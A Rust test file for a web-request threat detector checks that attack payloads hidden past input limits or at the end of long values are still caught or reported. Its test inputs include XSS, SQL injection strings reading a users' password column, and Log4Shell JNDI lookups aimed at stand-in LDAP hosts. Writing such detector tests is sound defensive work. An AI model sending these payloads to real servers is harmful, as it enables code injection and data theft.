//! No silent caps: for every limit, a payload placed just past it is either detected or the
//! request reports the limit (and, with the default `on_exceed: block`, is blocked). Values
//! longer than a detector window are read whole (overlapping windows), so an attack at the end
//! of a long value is still found.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code: failing loudly is the point

use threat_score::{Assessment, Config, LimitKind, Request, Verdict};

const XSS: &str = "<script>alert(1)</script>";

/// The default `limits.args.max`: query, form and multipart parameters (CRS's example
/// `tx.max_num_args`).
const MAX_ARGS: usize = 255;
/// The default `limits.body_values.max`: JSON members and elements, XML values (ModSecurity's
/// and Coraza's `SecArgumentsLimit`).
const MAX_VALUES: usize = 1000;

fn h(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
    pairs
        .iter()
        .map(|(a, b)| (a.to_string(), b.to_string()))
        .collect()
}

fn inspect(json_cfg: &str, uri: &str, headers: &[(String, String)], body: &[u8]) -> Assessment {
    let engine = Config::from_json(json_cfg.as_bytes())
        .unwrap()
        .compile()
        .unwrap();
    let req = Request::new("POST", uri)
        .with_headers(headers)
        .with_body(body);
    engine.inspect(&req)
}

/// Past the limit: the limit is reported and (default policy) the request is blocked.
fn limited(a: &Assessment, kind: LimitKind) {
    assert!(a.limit_hits.contains(&kind), "{kind:?} not reported: {a:?}");
    assert_eq!(a.verdict, Verdict::Block, "{a:?}");
}

/// With `on_exceed: pass` the limit is still reported (and counted by the glue).
fn pass_cfg(limit: &str, max: usize) -> String {
    format!(r#"{{"limits": {{"{limit}": {{"max": {max}, "on_exceed": "pass"}}}}}}"#)
}

#[test]
fn json_array_past_the_value_limit() {
    let ct = h(&[("host", "a.example"), ("content-type", "application/json")]);
    let mut items: Vec<String> = (0..MAX_VALUES).map(|i| format!("\"v{i}\"")).collect();
    let under = format!(r#"{{"a":[{}]}}"#, items.join(","));
    // MAX_VALUES array elements + the member `a`: one slot past the default.
    let a = inspect("{}", "/", &ct, under.as_bytes());
    limited(&a, LimitKind::BodyValues);
    items.push(format!("\"{XSS}\""));
    let past = format!(r#"{{"a":[{}]}}"#, items.join(","));
    limited(
        &inspect("{}", "/", &ct, past.as_bytes()),
        LimitKind::BodyValues,
    );
    let a = inspect(
        &pass_cfg("body_values", MAX_VALUES),
        "/",
        &ct,
        past.as_bytes(),
    );
    assert!(a.limit_hits.contains(&LimitKind::BodyValues));
    // Within the limit, the payload is inspected wherever it is.
    let small: Vec<String> = (0..MAX_VALUES - 10).map(|i| format!("\"v{i}\"")).collect();
    let body = format!(r#"{{"a":[{},"{XSS}"]}}"#, small.join(","));
    let a = inspect("{}", "/", &ct, body.as_bytes());
    assert!(
        a.limit_hits.is_empty() && a.verdict == Verdict::Block,
        "{a:?}"
    );
}

/// A real JSON body with hundreds of values (200 line items of 3 fields: 802 values) is
/// inspected whole and passes: JSON values have their own limit, ModSecurity's 1000, not the
/// 255 parameters of CRS's example (which the same count of query parameters does hit).
#[test]
fn json_with_hundreds_of_values_is_inspected_whole() {
    let ct = h(&[("host", "a.example"), ("content-type", "application/json")]);
    let items: Vec<String> = (0..200)
        .map(|i| format!(r#"{{"sku":"A-{i}","qty":{},"note":"gift wrap"}}"#, i % 7))
        .collect();
    let body = format!(r#"{{"order":"42","items":[{}]}}"#, items.join(","));
    let a = inspect("{}", "/", &ct, body.as_bytes());
    assert!(
        a.limit_hits.is_empty() && a.verdict == Verdict::Allow,
        "{a:?}"
    );
    // The same body with a payload in its last item: found, not skipped.
    let tail = body.replace(
        r#""A-199","qty":3,"note":"gift wrap""#,
        &format!(r#""A-199","qty":3,"note":"{XSS}""#),
    );
    assert_ne!(tail, body);
    let a = inspect("{}", "/", &ct, tail.as_bytes());
    assert!(
        a.limit_hits.is_empty() && a.verdict == Verdict::Block,
        "{a:?}"
    );
    // As many query parameters are a flood.
    let q: Vec<String> = (0..802).map(|i| format!("p{i}=1")).collect();
    let host = h(&[("host", "a.example")]);
    limited(
        &inspect("{}", &format!("/?{}", q.join("&")), &host, b""),
        LimitKind::ArgCount,
    );
}

#[test]
fn json_object_past_the_value_limit() {
    let ct = h(&[("host", "a.example"), ("content-type", "application/json")]);
    let mut members: Vec<String> = (0..MAX_VALUES).map(|i| format!("\"k{i}\":1")).collect();
    members.push(format!("\"x\":\"{XSS}\""));
    let body = format!("{{{}}}", members.join(","));
    limited(
        &inspect("{}", "/", &ct, body.as_bytes()),
        LimitKind::BodyValues,
    );
}

#[test]
fn multipart_parts_past_the_argument_limit() {
    let ct = h(&[
        ("host", "a.example"),
        ("content-type", "multipart/form-data; boundary=XX"),
    ]);
    let mut body = String::new();
    for i in 0..MAX_ARGS {
        body += &format!("--XX\r\nContent-Disposition: form-data; name=\"f{i}\"\r\n\r\nv\r\n");
    }
    body +=
        &format!("--XX\r\nContent-Disposition: form-data; name=\"x\"\r\n\r\n{XSS}\r\n--XX--\r\n");
    limited(
        &inspect("{}", "/", &ct, body.as_bytes()),
        LimitKind::ArgCount,
    );
    let a = inspect(&pass_cfg("args", MAX_ARGS), "/", &ct, body.as_bytes());
    assert!(a.limit_hits.contains(&LimitKind::ArgCount));
}

#[test]
fn xml_values_past_the_value_limit() {
    let ct = h(&[("host", "a.example"), ("content-type", "application/xml")]);
    let mut body = String::from("<r>");
    for i in 0..MAX_VALUES {
        body += &format!("<v>t{i}</v>");
    }
    body += &format!("<x>{}</x></r>", XSS.replace('<', "&lt;"));
    limited(
        &inspect("{}", "/", &ct, body.as_bytes()),
        LimitKind::BodyValues,
    );
}

#[test]
fn query_arguments_past_the_limit() {
    let host = h(&[("host", "a.example")]);
    let mut q: Vec<String> = (0..MAX_ARGS).map(|i| format!("a{i}=1")).collect();
    q.push("x=%3Cscript%3Ealert(1)%3C/script%3E".into());
    let uri = format!("/?{}", q.join("&"));
    limited(&inspect("{}", &uri, &host, b""), LimitKind::ArgCount);
}

#[test]
fn json_depth_past_the_limit() {
    let ct = h(&[("host", "a.example"), ("content-type", "application/json")]);
    let body = format!("{}\"{XSS}\"{}", "[".repeat(33), "]".repeat(33));
    limited(
        &inspect("{}", "/", &ct, body.as_bytes()),
        LimitKind::JsonDepth,
    );
}

#[test]
fn decode_rounds_past_the_limit() {
    let host = h(&[("host", "a.example")]);
    // Five layers of percent-encoding around `<`: one more than the default 4 rounds.
    let mut v = "<script>".to_string();
    for _ in 0..5 {
        v = v
            .replace('%', "%25")
            .replace('<', "%3C")
            .replace('>', "%3E");
    }
    limited(
        &inspect("{}", &format!("/?q={v}"), &host, b""),
        LimitKind::DecodeRounds,
    );
}

#[test]
fn header_count_and_size_past_the_limit() {
    let mut many = h(&[("host", "a.example")]);
    for i in 0..100 {
        many.push((format!("x-h{i}"), "v".into()));
    }
    limited(&inspect("{}", "/", &many, b""), LimitKind::HeaderCount);
    let big = h(&[
        ("host", "a.example"),
        ("x-big", &format!("{}{XSS}", "a ".repeat(4096))),
    ]);
    let a = inspect("{}", "/", &big, b"");
    assert!(a.limit_hits.contains(&LimitKind::HeaderSize), "{a:?}");
}

#[test]
fn body_past_the_size_limit() {
    let ct = h(&[("host", "a.example"), ("content-type", "text/plain")]);
    let body = format!("{}{XSS}", "a ".repeat(32 * 1024));
    let a = inspect("{}", "/", &ct, body.as_bytes());
    assert!(a.limit_hits.contains(&LimitKind::BodySize), "{a:?}");
    let a = inspect(
        r#"{"limits": {"body_bytes": {"max": 65536, "on_exceed": "block"}}}"#,
        "/",
        &ct,
        body.as_bytes(),
    );
    limited(&a, LimitKind::BodySize);
}

/// Long values are read in overlapping windows: nothing past a window is skipped.
#[test]
fn attacks_at_the_end_of_long_values_are_found() {
    let ct = h(&[("host", "a.example"), ("content-type", "text/plain")]);
    for (name, attack) in [
        ("xss", XSS),
        ("sqli", "' UNION SELECT password FROM users--"),
        ("java", "${${lower:j}ndi:ldap://x.example/a}"),
    ] {
        // Just past one window, far past many, and straddling a window boundary.
        for pad in [4096, 60_000, 4096 - 10] {
            let body = format!("{}{attack}", "a ".repeat(pad / 2));
            let a = inspect("{}", "/", &ct, body.as_bytes());
            assert!(a.limit_hits.is_empty(), "{name} {pad}: {a:?}");
            assert_eq!(a.verdict, Verdict::Block, "{name} after {pad} bytes: {a:?}");
        }
    }
    // SQL after many tokens (the tokenizer used to stop at 256 tokens).
    let tokens = "a, ".repeat(400);
    let q = format!(
        "/?q={}",
        format!("{tokens}1' OR '1'='1").replace(' ', "%20")
    );
    let a = inspect("{}", &q, &h(&[("host", "a.example")]), b"");
    assert_eq!(a.verdict, Verdict::Block, "{a:?}");
    // log4j lookups nested past the old budget of 64 substitutions.
    let lookups = "${lower:}".repeat(100);
    let q = format!("/?q={lookups}${{${{lower:j}}ndi:ldap://x/a}}");
    let a = inspect(
        "{}",
        &q.replace('{', "%7B")
            .replace('}', "%7D")
            .replace('$', "%24"),
        &h(&[("host", "a.example")]),
        b"",
    );
    assert_eq!(a.verdict, Verdict::Block, "{a:?}");
}

/// Documents carried as values, nested: their string leaves are inspected up to the length of
/// the outermost value carrying them. A statement in a document inside a document (inside a
/// JSON body member) is found as a leaf while the two levels' leaves fit exactly; with one
/// byte less of allowance (a shorter key in the outer document) the walk stops before it and
/// `decode_rounds` is reported (and blocks by default; with `pass`, reported only).
#[test]
fn nested_documents_past_the_leaf_allowance() {
    let ct = h(&[("host", "a.example"), ("content-type", "application/json")]);
    let quoted = |s: &str| serde_json::to_string(s).unwrap();
    // Inside the document its own quotes delimit the string: no break-out, only the leaf
    // reads as a statement.
    let payload = "1 UNION SELECT password FROM users--";
    let inner = format!("{{\"b\":{}}}", quoted(payload));
    let outer = |key: usize| format!("{{\"{}\":{}}}", "k".repeat(key), quoted(&inner));
    let edge = inner.len() + payload.len() - outer(0).len();
    let body = |key: usize| format!("{{\"m\":{}}}", quoted(&outer(key)));
    let a = inspect("{}", "/", &ct, body(edge).as_bytes());
    assert!(a.limit_hits.is_empty(), "{a:?}");
    assert!(a.categories.contains(threat_score::Category::Sqli), "{a:?}");
    limited(
        &inspect("{}", "/", &ct, body(edge - 1).as_bytes()),
        LimitKind::DecodeRounds,
    );
    let a = inspect(
        &pass_cfg("decode_rounds", 4),
        "/",
        &ct,
        body(edge - 1).as_bytes(),
    );
    assert_eq!(a.limit_hits, [LimitKind::DecodeRounds], "{a:?}");
    // ... and the statement was the leaf's alone: the documents as text do not show it.
    assert!(
        !a.categories.contains(threat_score::Category::Sqli),
        "{a:?}"
    );
}
